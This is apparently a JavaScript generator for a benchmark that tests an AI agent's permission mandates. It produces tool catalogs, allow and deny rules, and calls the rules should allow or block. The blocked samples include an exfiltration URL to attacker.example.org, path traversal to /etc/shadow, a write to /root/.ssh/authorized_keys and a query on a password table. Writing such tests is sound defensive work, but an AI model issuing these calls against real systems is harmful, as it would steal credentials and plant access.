// Synthetic but realistic tool catalogs, mandates and calls for the benchmark. Deterministic (seeded).

/** A small, fast, seeded PRNG (mulberry32). */
export function rng(seed) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  next.int = (lo, hi) => lo + Math.floor(next() * (hi - lo + 1));
  next.pick = (list) => list[Math.floor(next() * list.length)];
  next.sample = (list, k) => {
    const copy = [...list];
    for (let i = copy.length - 1; i > 0; i--) {
      const j = Math.floor(next() * (i + 1));
      [copy[i], copy[j]] = [copy[j], copy[i]];
    }
    return copy.slice(0, k);
  };
  return next;
}

export const NOW = Date.parse("2026-03-02T12:00:00Z");

const words = (r, n) =>
  Array.from({ length: n }, () =>
    r.pick(["invoice", "march", "rent", "team", "sync", "report", "draft", "update", "weekly", "plan"]),
  ).join(" ");

/**
 * Each archetype: the tool's schema, and the constraints a mandate may put on its arguments. A constraint
 * option yields the mandate's constraint, a value that satisfies it and one that breaks it — both valid
 * for the tool's own schema, so a broken call reaches the mandate's rules rather than failing the schema.
 */
const ARCHETYPES = [
  {
    verb: "payments_send",
    properties: {
      recipient: { type: "string" },
      amount: { type: "integer" },
      currency: { type: "string" },
      memo: { type: "string" },
    },
    required: ["recipient", "amount", "currency"],
    filler: (r) => ({
      recipient: `DE${r.int(10, 99)}3704004405320130${r.int(10, 99)}`,
      amount: 50,
      currency: "EUR",
      memo: "rent",
    }),
    options: [
      (r, ns) => {
        const iban = `DE89370400440532${ns}${r.int(1000, 9999)}`;
        return { arg: "recipient", constraint: { const: iban }, good: () => iban, bad: () => `${iban}0` };
      },
      (r) => {
        const max = r.pick([500, 1200, 5000]);
        return {
          arg: "amount",
          constraint: { exclusiveMinimum: 0, maximum: max },
          good: (r2) => r2.int(1, max),
          bad: () => max * 10,
        };
      },
      () => ({
        arg: "currency",
        constraint: { enum: ["EUR", "USD", "GBP"] },
        good: (r2) => r2.pick(["EUR", "USD", "GBP"]),
        bad: () => "JPY",
      }),
      () => ({
        arg: "memo",
        constraint: { maxLength: 140 },
        good: (r2) => words(r2, 3),
        bad: () => "x".repeat(300),
      }),
    ],
  },
  {
    verb: "files_read",
    properties: { path: { type: "string" }, maxBytes: { type: "integer" } },
    required: ["path"],
    filler: (_r, ns) => ({ path: `/srv/${ns}/data/readme.md`, maxBytes: 4096 }),
    options: [
      (_r, ns) => ({
        arg: "path",
        constraint: { path: { under: [`/srv/${ns}/data`, `/srv/${ns}/shared`] } },
        good: (r2) => `/srv/${ns}/data/${r2.pick(["a", "b", "c"])}/report-${r2.int(1, 99)}.csv`,
        bad: () => `/srv/${ns}/data/../../../home/mallory/.bashrc`,
      }),
      () => ({
        arg: "maxBytes",
        constraint: { maximum: 1_048_576 },
        good: (r2) => r2.int(1, 1_048_576),
        bad: () => 50_000_000,
      }),
    ],
  },
  {
    verb: "files_write",
    properties: { path: { type: "string" }, content: { type: "string" }, overwrite: { type: "boolean" } },
    required: ["path", "content"],
    filler: (_r, ns) => ({ path: `/srv/${ns}/out/summary.txt`, content: "ok", overwrite: false }),
    options: [
      (_r, ns) => ({
        arg: "path",
        constraint: { path: { under: [`/srv/${ns}/out`] } },
        good: (r2) => `/srv/${ns}/out/summary-${r2.int(1, 99)}.txt`,
        bad: () => `/srv/${ns}/bin/run.sh`,
      }),
      () => ({
        arg: "content",
        constraint: { maxLength: 10_000 },
        good: (r2) => words(r2, 20),
        bad: () => "y".repeat(12_000),
      }),
      () => ({ arg: "overwrite", constraint: { const: false }, good: () => false, bad: () => true }),
    ],
  },
  {
    verb: "http_get",
    properties: { url: { type: "string" }, timeoutMs: { type: "integer" }, method: { type: "string" } },
    required: ["url"],
    filler: (_r, ns) => ({ url: `https://api.${ns}.example.com/v1/status`, timeoutMs: 5000, method: "GET" }),
    options: [
      (_r, ns) => ({
        arg: "url",
        constraint: { url: { hosts: [`api.${ns}.example.com`, "*.cdn.example.net"] } },
        good: (r2) => `https://api.${ns}.example.com/v1/items/${r2.int(1, 9999)}?expand=true`,
        bad: () => "https://attacker.example.org/exfil?d=secrets",
      }),
      () => ({
        arg: "timeoutMs",
        constraint: { maximum: 30_000 },
        good: (r2) => r2.int(100, 30_000),
        bad: () => 600_000,
      }),
      () => ({
        arg: "method",
        constraint: { enum: ["GET", "HEAD"] },
        good: (r2) => r2.pick(["GET", "HEAD"]),
        bad: () => "DELETE",
      }),
    ],
  },
  {
    verb: "mail_send",
    properties: {
      to: { type: "string" },
      subject: { type: "string" },
      body: { type: "string" },
      priority: { type: "string" },
    },
    required: ["to", "subject", "body"],
    filler: () => ({ to: "bob@example.com", subject: "hello", body: "see attached", priority: "normal" }),
    options: [
      () => ({
        arg: "to",
        constraint: { enum: ["bob@example.com", "carol@example.com"] },
        good: (r2) => r2.pick(["bob@example.com", "carol@example.com"]),
        bad: () => "eve@evil.example",
      }),
      () => ({
        arg: "subject",
        constraint: { maxLength: 120 },
        good: (r2) => words(r2, 4),
        bad: () => "s".repeat(200),
      }),
      () => ({
        arg: "priority",
        constraint: { enum: ["low", "normal"] },
        good: (r2) => r2.pick(["low", "normal"]),
        bad: () => "urgent",
      }),
    ],
  },
  {
    verb: "calendar_create_event",
    properties: {
      title: { type: "string" },
      durationMin: { type: "integer" },
      attendees: { type: "integer" },
    },
    required: ["title", "durationMin"],
    filler: () => ({ title: "sync", durationMin: 30, attendees: 3 }),
    options: [
      () => ({
        arg: "title",
        constraint: { maxLength: 80 },
        good: (r2) => words(r2, 3),
        bad: () => "t".repeat(100),
      }),
      () => ({
        arg: "durationMin",
        constraint: { exclusiveMinimum: 0, maximum: 120 },
        good: (r2) => r2.int(15, 120),
        bad: () => 480,
      }),
      () => ({ arg: "attendees", constraint: { maximum: 10 }, good: (r2) => r2.int(1, 10), bad: () => 250 }),
    ],
  },
  {
    verb: "db_query",
    properties: { table: { type: "string" }, limit: { type: "integer" }, readOnly: { type: "boolean" } },
    required: ["table", "limit"],
    filler: () => ({ table: "orders", limit: 100, readOnly: true }),
    options: [
      () => ({
        arg: "table",
        constraint: { enum: ["orders", "customers", "products"] },
        good: (r2) => r2.pick(["orders", "customers", "products"]),
        bad: () => "users_passwords",
      }),
      () => ({
        arg: "limit",
        constraint: { maximum: 1000 },
        good: (r2) => r2.int(1, 1000),
        bad: () => 1_000_000,
      }),
      () => ({ arg: "readOnly", constraint: { const: true }, good: () => true, bad: () => false }),
    ],
  },
  {
    verb: "crm_update_contact",
    properties: { contactId: { type: "string" }, field: { type: "string" }, value: { type: "string" } },
    required: ["contactId", "field", "value"],
    filler: () => ({ contactId: "c-1001", field: "notes", value: "called back" }),
    options: [
      () => ({
        arg: "field",
        constraint: { enum: ["phone", "email", "notes"] },
        good: (r2) => r2.pick(["phone", "email", "notes"]),
        bad: () => "owner",
      }),
      () => ({
        arg: "value",
        constraint: { maxLength: 500 },
        good: (r2) => words(r2, 5),
        bad: () => "v".repeat(600),
      }),
      (r) => {
        const id = `c-${r.int(1000, 9999)}`;
        return { arg: "contactId", constraint: { const: id }, good: () => id, bad: () => "c-0001" };
      },
    ],
  },
  {
    verb: "tickets_create",
    properties: { project: { type: "string" }, title: { type: "string" }, severity: { type: "integer" } },
    required: ["project", "title"],
    filler: () => ({ project: "OPS", title: "disk full", severity: 3 }),
    options: [
      (r) => {
        const p = r.pick(["OPS", "WEB", "DATA"]);
        return { arg: "project", constraint: { const: p }, good: () => p, bad: () => "SEC" };
      },
      () => ({
        arg: "title",
        constraint: { maxLength: 120 },
        good: (r2) => words(r2, 4),
        bad: () => "t".repeat(130),
      }),
      () => ({
        arg: "severity",
        constraint: { exclusiveMinimum: 1, maximum: 4 },
        good: (r2) => r2.int(2, 4),
        bad: () => 1,
      }),
    ],
  },
  {
    verb: "search_web",
    properties: { query: { type: "string" }, maxResults: { type: "integer" } },
    required: ["query"],
    filler: () => ({ query: "weather", maxResults: 5 }),
    options: [
      () => ({
        arg: "query",
        constraint: { maxLength: 200 },
        good: (r2) => words(r2, 4),
        bad: () => "q".repeat(500),
      }),
      () => ({ arg: "maxResults", constraint: { maximum: 20 }, good: (r2) => r2.int(1, 20), bad: () => 500 }),
    ],
  },
  // Granted by no rule; forbidden by unconstrained deny globs.
  {
    verb: "files_delete",
    properties: { path: { type: "string" }, recursive: { type: "boolean" } },
    required: ["path"],
    filler: (_r, ns) => ({ path: `/srv/${ns}/out/old.txt`, recursive: false }),
    options: [],
  },
  {
    verb: "admin_reset",
    properties: { target: { type: "string" }, force: { type: "boolean" } },
    required: ["target"],
    filler: () => ({ target: "cache", force: false }),
    options: [],
  },
];

/** The deny rules of every generated mandate: globs, some with constraints (they are checked on every call). */
export const DENY_RULES = [
  { id: "no-admin", tool: "*.admin_*" },
  { id: "no-delete", tool: "*.files_delete" },
  { id: "no-system-files", tool: "*.files_*", args: { path: { path: { under: ["/etc", "/root"] } } } },
  {
    id: "no-internal-hosts",
    tool: "*.http_get",
    args: { url: { url: { hosts: ["*.internal.example.com"] } } },
  },
  {
    id: "no-competitor-mail",
    tool: "*.mail_send",
    args: { to: { email: { domains: ["competitor.example"] } } },
  },
];

/** `n` tools in the shape of an MCP `tools/list`: 12 archetypes spread over namespaces `ns0`, `ns1`, …. */
export function makeTools(n) {
  const tools = [];
  for (let i = 0; i < n; i++) {
    const a = ARCHETYPES[i % ARCHETYPES.length];
    const ns = `ns${Math.floor(i / ARCHETYPES.length)}`;
    tools.push({
      name: `${ns}.${a.verb}`,
      description: `${a.verb.replace(/_/g, " ")} (${ns})`,
      inputSchema: {
        type: "object",
        properties: structuredClone(a.properties),
        required: [...a.required],
        additionalProperties: false,
      },
      annotations: { readOnlyHint: /read|query|search|get/.test(a.verb) },
    });
  }
  return tools;
}

/**
 * A mandate granting the tools of `makeTools(n)` (one allow rule per grantable tool, 1–3 constrained
 * arguments each, budgets on some) plus the deny rules. `maxAllow` caps the allow rules (for a mandate of
 * an exact size). Returns the mandate and, per tool, how to make good and bad calls.
 */
export function makeMandate(n, { seed = 1, maxAllow = Infinity } = {}) {
  const r = rng(seed);
  const allow = [];
  const plans = new Map();
  for (let i = 0; i < n && allow.length < maxAllow; i++) {
    const a = ARCHETYPES[i % ARCHETYPES.length];
    if (a.options.length === 0) continue;
    const ns = `ns${Math.floor(i / ARCHETYPES.length)}`;
    const tool = `${ns}.${a.verb}`;
    const k = Math.min(a.options.length, r.int(1, 3));
    const chosen = r.sample(a.options, k).map((make) => make(r, ns));
    const rule = { id: `grant-${i}`, tool, args: {} };
    for (const c of chosen) rule.args[c.arg] = c.constraint;
    if (a.verb === "payments_send") rule.budget = { calls: 1000, sum: { amount: 1_000_000 }, per: "1d" };
    else if (a.verb === "mail_send") rule.budget = { calls: 500, per: "1h" };
    else if (i % 7 === 0) rule.budget = { calls: 10_000 };
    allow.push(rule);
    plans.set(tool, { archetype: a, ns, constraints: chosen });
  }
  const mandate = {
    mandate: 1,
    id: `bench-${n}`,
    subject: "user:alice",
    agent: "assistant",
    task: "Benchmark workload: routine office, data and payment tasks.",
    issued: "2026-03-01T00:00:00Z",
    expires: "2026-04-01T00:00:00Z",
    allow,
    deny: structuredClone(DENY_RULES),
  };
  return { mandate, plans };
}

/**
 * `count` calls that the mandate allows, and `count` that it denies because exactly two constraints of
 * the tool's rule fail (tools whose rule has at least two constraints). Same tools and shapes per seed.
 */
export function makeCalls(plans, count, seed = 2) {
  const r = rng(seed);
  const tools = [...plans.keys()];
  const twoPlus = tools.filter((t) => plans.get(t).constraints.length >= 2);
  const build = (tool, bad) => {
    const p = plans.get(tool);
    const args = p.archetype.filler(r, p.ns);
    for (const c of p.constraints) args[c.arg] = bad.includes(c) ? c.bad(r) : c.good(r);
    return args;
  };
  const allowed = [];
  const denied = [];
  for (let i = 0; i < count; i++) {
    const t1 = r.pick(tools);
    allowed.push({ tool: t1, args: build(t1, []), callId: `call-a-${i}` });
    const t2 = r.pick(twoPlus);
    const bad = r.sample(plans.get(t2).constraints, 2);
    denied.push({ tool: t2, args: build(t2, bad), callId: `call-d-${i}` });
  }
  return { allowed, denied };
}

/** Calls the deny rules forbid (for checking that Cedar agrees; not timed). */
export function makeForbiddenCalls(tools) {
  const out = [];
  for (const t of tools) {
    const verb = t.name.slice(t.name.indexOf(".") + 1);
    const ns = t.name.slice(0, t.name.indexOf("."));
    if (verb === "admin_reset") out.push({ tool: t.name, args: { target: "all", force: true } });
    else if (verb === "files_delete") out.push({ tool: t.name, args: { path: `/srv/${ns}/out/x.txt` } });
    else if (verb === "files_read") out.push({ tool: t.name, args: { path: "/srv/../etc/shadow" } });
    else if (verb === "files_write")
      out.push({ tool: t.name, args: { path: "/root/.ssh/authorized_keys", content: "k" } });
    else if (verb === "http_get")
      out.push({ tool: t.name, args: { url: "https://db.internal.example.com/dump" } });
    else if (verb === "mail_send")
      out.push({ tool: t.name, args: { to: "ceo@competitor.example", subject: "hi", body: "hello" } });
  }
  return out.slice(0, 48).map((c, i) => ({ ...c, callId: `call-f-${i}` }));
}
